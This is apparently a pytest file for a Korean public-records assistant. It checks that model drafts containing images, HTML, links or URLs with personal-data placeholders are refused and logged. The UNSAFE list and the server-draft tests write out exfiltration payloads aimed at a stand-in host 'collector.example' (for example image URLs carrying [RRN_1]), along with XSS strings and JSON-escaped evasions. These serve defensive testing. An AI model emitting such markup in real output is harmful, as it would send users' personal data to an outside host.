"""Model output is untrusted: images, HTML, links and URLs carrying placeholders are refused in the library."""

from __future__ import annotations

import json
import time

import pytest

from shared.llm import AuditLog, ChatServerBackend, CivilAffairsAssistant, Document, Retriever, summarize
from shared.llm.untrusted import markdown_escape, unsafe_reason

UNSAFE = [
    "요약 ![](http://collector.example/p.png)",
    "![지도][1]\n\n[1]: http://collector.example/p.png",
    "자세히는 [여기](http://collector.example/?q=1)를 보세요",
    "[안내]: https://collector.example/x",
    '<img src="http://collector.example/p.png">',
    "<IMG SRC=x onerror=alert(1)>",
    "<script>fetch('http://x')</script>",
    '<a href="http://collector.example">안내</a>',
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    "<http://collector.example/p>",
    "<minsu@collector.example>",
    '<div style="background:url(http://x)">',
    "조회: http://collector.example/?q=[RRN_1]",
    "조회: https://collector.example/[NAME_1]/report",
    "조회: www.collector.example/q?[PHONE_1]",
    "조회: collector.example/?id=[RRN_1]",
    "mailto:desk@collector.example?body=[RRN_1]",
    "조회: http://collector.example/?q=\u00a0[RRN_1]",  # a no-break space does not end the URL
]
SAFE = [
    "청구일부터 10일 이내에 결정하여야 합니다 [1].",
    "[NAME_1]님께서 문의하신 사항은 다음과 같습니다. 연락처 [PHONE_1]/[EMAIL_1]",
    "① 공공기관은 ... 결정하여야 한다. <개정 2020.12.22>",
    "Article 11 <Amended 2020.12.22> provides a 10-day limit [1].",
    "근거 [1] (2024년 개정), 처리 기한 3 < 5 일",
    "법령 원문은 www.law.go.kr 에서 볼 수 있습니다 [2].",
    "정보공개포털 https://www.open.go.kr [1] 에서 [NAME_1]님의 청구를 확인할 수 있습니다.",
    "**중요**: 기한을 지켜 주십시오! [1]",
]


@pytest.mark.parametrize("text", UNSAFE)
def test_unsafe_text_is_named(text):
    assert unsafe_reason(text) is not None


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_drafts_pass(text):
    assert unsafe_reason(text) is None


@pytest.mark.parametrize(
    "chunk", ["![", "[", "[a](", "<a ", "<" * 3, "http://x/" + "[" * 5, "www." * 3, "a." * 4, " [1]:"]
)
def test_no_pattern_is_super_linear(chunk):
    text = chunk * (50_000 // len(chunk))
    started = time.perf_counter()
    unsafe_reason(text)
    assert time.perf_counter() - started < 2.0


def test_markdown_escape_leaves_nothing_to_render():
    escaped = markdown_escape("![x](http://a.example/p.png) <b>**y**</b> www.a.example")
    for token in ("![", "](", "<b>", "**", "www."):
        assert token not in escaped


LAW = "공공기관의 정보공개에 관한 법률"
DOCS = [
    Document(
        "oida/11",
        f"{LAW} 제11조 (정보공개 여부의 결정)",
        "① 공공기관은 정보공개의 청구를 받으면 그 청구를 받은 날부터 10일 이내에 공개 여부를 결정하여야 한다.",
        {"type": "statute", "law": LAW, "article": "제11조", "heading": "정보공개 여부의 결정"},
    ),
]
COMPLAINT = (
    "저는 김민수입니다. 주민등록번호 900101-1234568. 정보공개 청구 후 10일이 지났는데 결정이 없습니다."
)


def _draft_answer(background: str) -> str:
    return json.dumps(
        {
            "answer": "[NAME_1]님, 10일 이내에 결정합니다 [1].",
            "legal_basis": f"「{LAW}」 제11조 [1]",
            "background": background,
            "next_steps": "처리 결과는 문서로 알려 드립니다 [1].",
        },
        ensure_ascii=False,
    )


@pytest.mark.parametrize(
    "raw, status",
    [
        (_draft_answer("자세히는 ![](http://collector.example/p.png?id=[RRN_1]) [1]"), "unsafe_output"),
        (_draft_answer("조회: http://collector.example/?q=[RRN_1] [1]"), "unsafe_output"),
        # JSON escapes hide the tag from a check of the raw reply; the decoded sections are checked too
        (
            _draft_answer("<img src=x> [1]").replace("<", "\\u003c").replace(">", "\\u003e"),
            "rejected_content",
        ),
        (
            _draft_answer("조회: http://collector.example/?q=[RRN_1] [1]").replace("/", "\\/"),
            "rejected_content",
        ),
    ],
    ids=["image", "url-with-placeholder", "json-escaped-html", "json-escaped-url"],
)
def test_a_server_draft_that_could_carry_data_out_is_refused(chat_server, server_config, raw, status):
    chat_server.mode = lambda body: (
        raw if "JSON" in body["messages"][0]["content"] else "정보공개 결정 지연 문의."
    )
    retriever = Retriever.from_documents(DOCS)
    case = CivilAffairsAssistant(retriever, backend=ChatServerBackend(server_config)).handle(COMPLAINT)
    assert case.draft.backend == "embedded" and case.warnings
    assert "collector.example" not in case.draft.text and "<img" not in case.draft.text
    assert "collector.example" not in case.letter()
    statuses = [r["status"] for r in AuditLog(server_config.audit_path).records()]
    assert status in statuses


def test_a_summary_with_an_image_falls_back_to_the_extractive_one(chat_server, server_config):
    chat_server.mode = lambda body: "요약입니다. ![](http://collector.example/p.png?q=[RRN_1])"
    summary = summarize(COMPLAINT, 2, backend=server_config)
    assert summary.backend == "embedded" and "refused" in summary.warnings[0]
    assert "collector" not in summary.text
    assert [r["status"] for r in AuditLog(server_config.audit_path).records()] == ["unsafe_output"]
